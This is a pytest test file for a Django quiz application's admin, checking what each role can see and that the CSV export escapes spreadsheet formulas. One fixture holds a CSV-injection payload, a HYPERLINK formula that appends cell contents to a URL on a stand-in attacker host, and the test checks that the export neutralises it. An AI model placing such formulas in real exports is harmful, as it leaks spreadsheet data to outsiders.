"""Admin shows each role what it needs and no more (docs/accounts.md, "What each role can see")."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone

from cohorts.models import Cohort
from itemstats.models import ItemAnalysis
from quizzes import bank
from quizzes.formats import csvfmt
from quizzes.models import Question
from study.models import ProblemReport, StudySession
from tests.quizzes.factories import QuestionFactory, UserFactory


@pytest.fixture
def instructor(db):
    user = UserFactory(username="ines", is_staff=True)
    user.groups.add(Group.objects.get(name="Instructors"))
    return user


@pytest.fixture
def trainer(tess):
    return tess


@pytest.fixture
def root(db):
    return UserFactory(username="root", is_staff=True, is_superuser=True)


@pytest.fixture
def drill(casey, make_quiz):
    quiz = make_quiz(2, title="Drill: Casey's weak spots", slug="drill-casey", is_published=False)
    StudySession.objects.create(user=casey, kind=StudySession.Kind.DRILL, quiz=quiz)
    return quiz


def test_personal_quizzes_are_hidden_from_lists_searches_filters_and_autocomplete(
    client, trainer, instructor, root, drill, make_quiz
):
    make_quiz(1, title="Mock exam A")
    question_list = reverse("admin:quizzes_question_changelist")
    for who in (trainer, instructor):
        client.force_login(who)
        listing = client.get(reverse("admin:quizzes_quiz_changelist")).content.decode()
        assert "Mock exam A" in listing and "weak spots" not in listing
        assert (
            "weak spots"
            not in client.get(reverse("admin:quizzes_quiz_changelist"), {"q": "Drill"}).content.decode()
        )
        assert "weak spots" not in client.get(question_list).content.decode()  # the "by quiz" filter
        assert (
            client.get(reverse("admin:quizzes_quiz_change", args=[drill.pk])).status_code == 302
        )  # not found
    client.force_login(trainer)
    found = client.get(
        reverse("admin:autocomplete"),
        {"app_label": "cohorts", "model_name": "assignment", "field_name": "quiz", "term": "Drill"},
    ).json()
    assert found["results"] == []
    client.force_login(root)
    listing = client.get(reverse("admin:quizzes_quiz_changelist")).content.decode()
    assert "weak spots" in listing and "personal (weak-area drill)" in listing


def test_problem_reports_go_to_trainers_without_the_reporter_and_not_to_instructors(
    client, trainer, instructor, root, casey
):
    question = QuestionFactory()
    report = ProblemReport.objects.create(question=question, reporter=casey, message="B is ambiguous")
    client.force_login(trainer)
    listing = client.get(reverse("admin:study_problemreport_changelist")).content.decode()
    change = client.get(reverse("admin:study_problemreport_change", args=[report.pk])).content.decode()
    for page in (listing, change):
        assert "B is ambiguous" in page and "casey" not in page
    client.force_login(instructor)
    assert client.get(reverse("admin:study_problemreport_changelist")).status_code == 403
    client.force_login(root)
    assert "casey" in client.get(reverse("admin:study_problemreport_changelist")).content.decode()


def test_stored_item_analyses_go_to_whom_may_see_their_class(client, trainer, instructor, make_quiz):
    quiz = make_quiz(1, title="Mock exam A")
    mine = Cohort.objects.create(name="Mine", slug="mine", starts_on=datetime.date(2026, 3, 1))
    mine.instructors.add(instructor)
    theirs = Cohort.objects.create(name="Theirs", slug="theirs", starts_on=datetime.date(2026, 3, 1))
    for cohort in (mine, theirs, None):
        ItemAnalysis.objects.create(
            quiz=quiz, cohort=cohort, attempts="all", attempt_count=1, computed_at=timezone.now(), data={}
        )
    url = reverse("admin:itemstats_itemanalysis_changelist")
    client.force_login(instructor)
    assert set(_rows(client.get(url))) == {"Mine"}
    client.force_login(trainer)
    assert set(_rows(client.get(url))) == {"-"}  # the analysis over everyone; no class's own


def _rows(response) -> list[str]:
    """The cohort column of each row of an item-analysis changelist."""
    return [str(obj.cohort) if obj.cohort else "-" for obj in response.context["cl"].result_list]


def test_the_admin_csv_export_escapes_formulas_and_reads_back_exactly(client, trainer, taxonomy):
    question = QuestionFactory(
        stem='=HYPERLINK("http://evil.example/?"&A1, "click")', title="+1 title", explanation="@SUM(A1)"
    )
    question.choices.filter(position=1).update(text="-2 or less", feedback="\tTabbed")
    client.force_login(trainer)
    response = client.post(
        reverse("admin:quizzes_question_changelist"),
        {"action": "export_csv", "_selected_action": [question.pk]},
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    [row] = rows
    assert row["stem"].startswith("'=HYPERLINK") and row["title"] == "'+1 title"
    assert row["explanation"] == "'@SUM(A1)" and row["choice_b"] == "'-2 or less"
    assert row["feedback_b"] == "'\tTabbed" and row["weight_a"] == "100"  # a number stays a number
    back = csvfmt.parse(response.content.decode()).questions[0]
    assert back.stem == question.stem and back.title == "+1 title" and back.choices[1].text == "-2 or less"


def test_the_user_admin_refuses_an_email_another_account_uses(client, root, casey):
    client.force_login(root)
    response = client.post(
        reverse("admin:auth_user_add"),
        {
            "username": "newbie",
            "email": casey.email.upper(),
            "password1": "pw-long-enough-42",
            "password2": "pw-long-enough-42",
            "usable_password": "true",
        },
    )
    assert response.status_code == 200
    assert "Another account already uses this email address" in response.content.decode()


def test_bank_export_is_the_same_rule(taxonomy):
    question = QuestionFactory(stem="=1+1")
    text = bank.questions_export(format="csv", questions=[Question.objects.get(pk=question.pk)]).text
    assert "'=1+1" in text
